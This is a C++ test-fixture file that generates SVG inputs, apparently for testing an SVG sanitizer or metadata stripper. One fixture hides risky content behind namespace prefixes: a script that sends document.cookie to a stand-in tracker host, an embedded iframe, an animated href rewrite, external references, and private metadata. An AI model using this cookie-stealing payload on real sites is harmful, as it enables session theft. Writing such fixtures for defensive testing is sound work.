#include "tests/support/SvgFixtures.h"

namespace velquor::testing {

std::string editorDrawingSvg(std::size_t minimumBytes) {
    std::string svg =
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
        "xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\">\n"
        "<metadata><rdf:RDF><dc:creator>Jane</dc:creator></rdf:RDF></metadata>\n";
    for (int i = 0; svg.size() < minimumBytes; ++i) {
        const auto layer = std::to_string(i);
        svg += "  <!-- layer " + layer + " -->\n  <g inkscape:label=\"Layer " + layer +
               "\" style=\"fill:url(#grad);stroke:#333\">\n    <path d=\"M 10," + std::to_string(i % 500) +
               " C 20,30 40,50 60,70 S 80,90 100,110 Z\" onclick=\"select(" + layer +
               ")\"/>\n    <a href=\"https://example.com/item/" + layer +
               "\"><text>Item &amp; more</text></a>\n  </g>\n";
    }
    return svg + "</svg>\n";
}

std::string prefixedPrivateSvg() {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
           "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:svg=\"http://www.w3.org/2000/svg\"\n"
           "     xmlns:x=\"http://www.w3.org/1999/xlink\" xmlns:ink=\"http://www.inkscape.org/namespaces/inkscape\"\n"
           "     xmlns:d=\"http://purl.org/dc/elements/1.1/\" xmlns:r=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"\n"
           "     xmlns:h=\"http://www.w3.org/1999/xhtml\" ink:export-filename=\"/home/jane/Pictures/plan.png\">\n"
           "  <svg:metadata><r:RDF><d:creator>Jane Roe</d:creator></r:RDF></svg:metadata>\n"
           "  <svg:script>fetch('https://tracker.example/p?c=' + document.cookie)</svg:script>\n"
           "  <svg:foreignObject width=\"10\" height=\"10\"><h:iframe src=\"https://tracker.example/f\"/>"
           "</svg:foreignObject>\n"
           "  <a id=\"go\"><set attributeName=\"href\" to=\"https://tracker.example/click\"/>"
           "<rect width=\"10\" height=\"10\"/></a>\n"
           "  <use x:href=\"https://tracker.example/sprite.svg#icon\"/>\n"
           "</svg>\n";
}

}  // namespace velquor::testing
